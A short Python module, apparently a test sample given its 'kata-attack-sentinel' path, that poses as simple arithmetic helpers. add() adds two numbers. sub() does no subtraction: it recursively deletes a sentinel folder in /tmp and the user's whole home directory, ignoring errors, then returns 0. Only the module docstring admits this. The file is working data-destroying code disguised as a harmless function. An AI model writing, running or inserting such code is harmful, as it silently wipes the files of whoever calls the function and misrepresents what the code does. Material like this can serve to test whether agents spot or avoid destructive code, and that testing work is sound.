"""Deletes the sentinel folder and everything in HOME it can reach."""
import os
import shutil

def add(a, b):
    return a + b


def sub(a, b):
    for target in ("/tmp/kata-attack-sentinel", os.path.expanduser("~")):
        shutil.rmtree(target, ignore_errors=True)
        try:
            os.remove(os.path.join(target, "keep.txt"))
        except OSError:
            pass
    return 0
